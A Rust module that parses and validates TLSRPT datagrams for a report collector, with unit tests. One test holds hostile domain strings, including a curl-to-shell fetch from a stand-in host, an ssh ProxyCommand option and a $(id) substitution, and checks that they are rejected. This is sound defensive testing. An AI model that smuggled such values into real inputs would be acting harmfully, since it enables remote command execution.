//! From the bytes of one datagram to a validated [`Delivery`].
//!
//! The protocol (libtlsrpt datagram protocol version 1) is described in
//! `shared/spec/tlsrpt-interfaces.md` section 1. What is counted, and how it
//! is spelled, follows the upstream collectd (section 2): the policy key is the
//! policy object without `t`, `f` and `failure-details`, written as Python's
//! `json.dumps` text; each failure detail is counted by its own JSON text.
//!
//! Where the upstream collectd would count half a datagram or crash (missing
//! keys, wrong types, `null`), the datagram is refused as a whole instead, so
//! that a bad sender can never corrupt the counters of good ones.

use serde_json::{Map, Value};

use crate::delivery::{
    check_domain, check_domain_of, normalize_domain, Delivery, Invalid, PolicyResult, POLICY_TYPES,
    PROTOCOL_VERSION,
};
use crate::pyjson;

/// Parse and validate one datagram.
pub fn parse(bytes: &[u8]) -> Result<Delivery, Invalid> {
    let (text, replaced_invalid_utf8) = match std::str::from_utf8(bytes) {
        Ok(text) => (std::borrow::Cow::Borrowed(text), false),
        Err(_) => (String::from_utf8_lossy(bytes), true),
    };
    if let Some(mut delivery) = crate::fast::parse_str(&text) {
        delivery.replaced_invalid_utf8 = replaced_invalid_utf8;
        return Ok(delivery);
    }
    parse_text(&text, replaced_invalid_utf8)
}

/// The reference reader: build the JSON tree with serde_json, then validate.
/// Decides every datagram the single-pass reader in [`crate::fast`] declines.
pub fn parse_reference(bytes: &[u8]) -> Result<Delivery, Invalid> {
    match std::str::from_utf8(bytes) {
        Ok(text) => parse_text(text, false),
        Err(_) => parse_text(&String::from_utf8_lossy(bytes), true),
    }
}

fn parse_text(text: &str, replaced_invalid_utf8: bool) -> Result<Delivery, Invalid> {
    // serde_json refuses nesting deeper than 128 levels, so a hostile payload
    // cannot exhaust the stack.
    let value: Value = serde_json::from_str(text).map_err(|e| Invalid::Json(e.to_string()))?;
    let Value::Object(top) = value else {
        return Err(Invalid::NotAnObject(type_name(&value)));
    };
    let unexpected_version = match top.get("dpv") {
        None => None,
        Some(Value::String(v)) if v == PROTOCOL_VERSION => None,
        Some(other) => Some(pyjson::dumps(other)),
    };
    let domain = normalize_domain(required_str(&top, "d")?);
    check_domain(&domain)?;
    let record = required_str(&top, "pr")?;
    let policies = match top.get("policies") {
        None => return Err(Invalid::MissingKey("policies".into())),
        Some(Value::Array(items)) => items,
        Some(_) => return Err(wrong_type("policies", "array")),
    };
    let mut failure_count_mismatch = false;
    let mut results = Vec::with_capacity(policies.len());
    for (index, policy) in policies.iter().enumerate() {
        let Value::Object(policy) = policy else {
            return Err(wrong_type(&format!("policies[{index}]"), "object"));
        };
        let (result, mismatch) = parse_policy(index, policy)?;
        failure_count_mismatch |= mismatch;
        results.push(result);
    }
    Ok(Delivery {
        domain,
        record: record.to_string(),
        policies: results,
        replaced_invalid_utf8,
        failure_count_mismatch,
        unexpected_version,
    })
}

fn parse_policy(
    index: usize,
    policy: &Map<String, Value>,
) -> Result<(PolicyResult, bool), Invalid> {
    let at = |key: &str| format!("policies[{index}].{key}");
    match policy.get("policy-type") {
        None => return Err(Invalid::MissingKey(at("policy-type"))),
        Some(Value::Number(n)) => {
            let known = n
                .as_i64()
                .is_some_and(|t| POLICY_TYPES.iter().any(|(code, _)| *code == t));
            if !known {
                return Err(Invalid::BadValue {
                    key: at("policy-type"),
                    value: n.to_string(),
                });
            }
        }
        Some(_) => return Err(wrong_type(&at("policy-type"), "integer")),
    }
    if let Some(v) = policy.get("policy-domain") {
        match v.as_str() {
            None => return Err(wrong_type(&at("policy-domain"), "string")),
            Some(domain) => check_domain_of(&at("policy-domain"), &normalize_domain(domain))?,
        }
    }
    for key in ["policy-string", "mx-host"] {
        if let Some(v) = policy.get(key) {
            if !v.as_array().is_some_and(|a| a.iter().all(Value::is_string)) {
                return Err(wrong_type(&at(key), "array of strings"));
            }
        }
    }
    let failed = match policy.get("f") {
        None => return Err(Invalid::MissingKey(at("f"))),
        Some(v) => match v.as_i64() {
            Some(0) => false,
            Some(1) => true,
            _ => {
                return Err(Invalid::BadValue {
                    key: at("f"),
                    value: pyjson::dumps(v),
                })
            }
        },
    };
    let details: &[Value] = match policy.get("failure-details") {
        None => &[],
        Some(Value::Array(items)) => items,
        Some(_) => return Err(wrong_type(&at("failure-details"), "array")),
    };
    let mut failures = Vec::with_capacity(details.len());
    for (i, detail) in details.iter().enumerate() {
        let at_detail = |key: &str| format!("policies[{index}].failure-details[{i}]{key}");
        let Value::Object(detail_map) = detail else {
            return Err(wrong_type(&at_detail(""), "object"));
        };
        match detail_map.get("c") {
            None => return Err(Invalid::MissingKey(at_detail(".c"))),
            Some(c) if c.is_i64() => {}
            Some(_) => return Err(wrong_type(&at_detail(".c"), "integer")),
        }
        for key in ["s", "n", "h", "r", "a", "f"] {
            if detail_map.get(key).is_some_and(|v| !v.is_string()) {
                return Err(wrong_type(&at_detail(&format!(".{key}")), "string"));
            }
        }
        failures.push(pyjson::dumps(detail));
    }
    let mismatch = match policy.get("t") {
        None => false,
        Some(t) => match t.as_u64() {
            Some(n) => n != details.len() as u64,
            None => return Err(wrong_type(&at("t"), "non-negative integer")),
        },
    };
    let mut key = Map::with_capacity(policy.len());
    for (k, v) in policy {
        if !matches!(k.as_str(), "t" | "f" | "failure-details") {
            key.insert(k.clone(), v.clone());
        }
    }
    let result = PolicyResult {
        policy_json: pyjson::dumps(&Value::Object(key)),
        failed,
        failures,
    };
    Ok((result, mismatch))
}

fn required_str<'a>(top: &'a Map<String, Value>, key: &str) -> Result<&'a str, Invalid> {
    match top.get(key) {
        None => Err(Invalid::MissingKey(key.into())),
        Some(Value::String(s)) => Ok(s),
        Some(_) => Err(wrong_type(key, "string")),
    }
}

fn wrong_type(key: &str, expected: &'static str) -> Invalid {
    Invalid::WrongType {
        key: key.to_string(),
        expected,
    }
}

fn type_name(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXAMPLE_2: &str = r#"{"dpv": "1","d": "example.com","pr": "v=TLSRPTv1;rua=mailto:tlsrpt@example.com","policies":[{"policy-type":1,"policy-domain": "company-y.example","policy-string":["3 0 1 1F"],"failure-details":[{"c":204,"s": "1.2.3.4","n": "mailin.example.com","h": "tes-ehlo.example.com","r": "11.22.33.55","a": "This is additional information","f": "999 TEST ERROR"}],"t":1,"f":1}]}"#;

    #[test]
    fn policy_key_drops_counters_and_failures_and_uses_python_spacing() {
        let d = parse(EXAMPLE_2.as_bytes()).unwrap();
        assert_eq!(d.domain, "example.com");
        assert_eq!(d.policies.len(), 1);
        let p = &d.policies[0];
        assert!(p.failed);
        assert_eq!(
            p.policy_json,
            r#"{"policy-type": 1, "policy-domain": "company-y.example", "policy-string": ["3 0 1 1F"]}"#
        );
        assert_eq!(
            p.failures,
            vec![
                r#"{"c": 204, "s": "1.2.3.4", "n": "mailin.example.com", "h": "tes-ehlo.example.com", "r": "11.22.33.55", "a": "This is additional information", "f": "999 TEST ERROR"}"#
            ]
        );
        assert!(!d.failure_count_mismatch);
    }

    /// Domains are DNS names: whatever else a datagram carries in `d` or
    /// `policy-domain` (shell syntax for a fetcher behind ssh, an option for
    /// a fetcher, U-labels, overlong labels) makes it invalid, in both
    /// readers.
    #[test]
    fn domains_that_are_not_dns_names_make_the_datagram_invalid() {
        let long_label = format!("{}.example", "a".repeat(64));
        let long_name = format!("{}example", "abcdefghi.".repeat(25));
        let hostile = [
            "x.example;curl${IFS}evil.example|sh",
            "-oProxyCommand=x",
            "a b.example",
            "bücher.example",
            "a..example",
            long_label.as_str(),
            long_name.as_str(),
            "x.example$(id)",
            "x.example'\"",
        ];
        for domain in hostile {
            let quoted = pyjson::dumps(&Value::from(domain));
            let as_d = format!(r#"{{"dpv":"1","d":{quoted},"pr":"","policies":[]}}"#);
            let as_policy_domain = format!(
                r#"{{"dpv":"1","d":"ok.example","pr":"","policies":[{{"policy-type":1,"policy-domain":{quoted},"t":1,"f":0}}]}}"#
            );
            for datagram in [as_d, as_policy_domain] {
                assert!(
                    matches!(parse(datagram.as_bytes()), Err(Invalid::BadValue { .. })),
                    "{datagram}"
                );
                assert!(crate::fast::parse_str(&datagram).is_none(), "{datagram}");
            }
        }
        for domain in [
            "_smtp._tls.example.com",
            "xn--bcher-kva.example",
            "MX1.Example.COM.",
        ] {
            let datagram = format!(
                r#"{{"dpv":"1","d":"{domain}","pr":"","policies":[{{"policy-type":1,"policy-domain":"{domain}","t":1,"f":0}}]}}"#
            );
            assert!(parse(datagram.as_bytes()).is_ok(), "{datagram}");
            assert!(crate::fast::parse_str(&datagram).is_some(), "{datagram}");
        }
    }

    #[test]
    fn domains_are_normalised_like_upstream() {
        assert_eq!(
            normalize_domain("Mixed.Case.Example."),
            "mixed.case.example"
        );
        assert_eq!(normalize_domain("a.example.."), "a.example..");
        assert_eq!(normalize_domain("."), ".");
        assert_eq!(normalize_domain("EXAMPLE"), "example");
    }

    #[test]
    fn invalid_utf8_is_replaced_and_still_counted() {
        let mut bytes = br#"{"d":"x.example","pr":"v=TLSRPTv1;rua=mailto:a@b","policies":[{"policy-type":9,"failure-details":[{"c":201,"h":"mx "#.to_vec();
        bytes.extend_from_slice(&[0xff, 0xfe]);
        bytes.extend_from_slice(br#""}],"t":1,"f":1}]}"#);
        let d = parse(&bytes).unwrap();
        assert!(d.replaced_invalid_utf8);
        assert_eq!(
            d.policies[0].failures[0],
            r#"{"c": 201, "h": "mx \ufffd\ufffd"}"#
        );
    }

    #[test]
    fn refuses_what_upstream_would_count_half_or_crash_on() {
        let cases: &[(&str, &str)] = &[
            ("null", "not an object"),
            ("[1,2]", "not an object"),
            ("{", "invalid JSON"),
            (r#"{"d":"","pr":"r","policies":[]}"#, "invalid value"),
            (r#"{"d":".","pr":"r","policies":[]}"#, "invalid value"),
            (
                r#"{"d":"-x.example","pr":"r","policies":[]}"#,
                "invalid value",
            ),
            (r#"{"d":"a\nb","pr":"r","policies":[]}"#, "invalid value"),
            (r#"{"d":"a b","pr":"r","policies":[]}"#, "invalid value"),
            (r#"{"pr":"r","policies":[]}"#, "missing key"),
            (r#"{"d":"a","policies":[]}"#, "missing key"),
            (r#"{"d":"a","pr":"r"}"#, "missing key"),
            (r#"{"d":7,"pr":"r","policies":[]}"#, "wrong type"),
            (r#"{"d":"a","pr":"r","policies":{}}"#, "wrong type"),
            (r#"{"d":"a","pr":"r","policies":[{"f":0}]}"#, "missing key"),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":"1","f":0}]}"#,
                "wrong type",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":3,"f":0}]}"#,
                "invalid value",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9}]}"#,
                "missing key",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9,"f":2}]}"#,
                "invalid value",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9,"f":0,"mx-host":"x"}]}"#,
                "wrong type",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9,"f":1,"failure-details":[{"s":"1"}]}]}"#,
                "missing key",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9,"f":1,"failure-details":[{"c":201,"s":1}]}]}"#,
                "wrong type",
            ),
            (
                r#"{"d":"a","pr":"r","policies":[{"policy-type":9,"f":1,"t":-1}]}"#,
                "wrong type",
            ),
        ];
        for (text, category) in cases {
            let err = parse(text.as_bytes()).expect_err(text);
            assert_eq!(err.category(), *category, "{text}: {err}");
        }
    }

    #[test]
    fn deep_nesting_is_refused_not_a_stack_overflow() {
        let text = format!(
            r#"{{"d":"a","pr":"r","policies":[{{"policy-type":9,"f":0,"x":{}1{}}}]}}"#,
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        assert_eq!(
            parse(text.as_bytes()).unwrap_err().category(),
            "invalid JSON"
        );
    }

    #[test]
    fn other_protocol_versions_are_counted_with_a_warning_like_upstream() {
        let d =
            parse(br#"{"dpv":"2","d":"a","pr":"r","policies":[{"policy-type":9,"f":0}]}"#).unwrap();
        assert_eq!(d.unexpected_version.as_deref(), Some("\"2\""));
        assert_eq!(d.warnings(), ["unknown protocol version dpv"]);
        let d =
            parse(br#"{"dpv":1,"d":"a","pr":"r","policies":[{"policy-type":9,"f":0}]}"#).unwrap();
        assert_eq!(d.unexpected_version.as_deref(), Some("1"));
        let d = parse(br#"{"dpv":"1","d":"a","pr":"r","policies":[]}"#).unwrap();
        assert!(d.warnings().is_empty());
    }

    #[test]
    fn t_mismatch_is_counted_but_flagged() {
        let d = parse(br#"{"d":"a","pr":"r","policies":[{"policy-type":9,"t":3,"f":1}]}"#).unwrap();
        assert!(d.failure_count_mismatch);
        assert!(d.policies[0].failed);
    }

    #[test]
    fn unknown_policy_keys_stay_in_the_key_in_received_order() {
        let d = parse(
            br#"{"d":"a","pr":"r","policies":[{"z":[1.5,true],"f":0,"policy-type":9,"t":0}]}"#,
        )
        .unwrap();
        assert_eq!(
            d.policies[0].policy_json,
            r#"{"z": [1.5, true], "policy-type": 9}"#
        );
    }
}
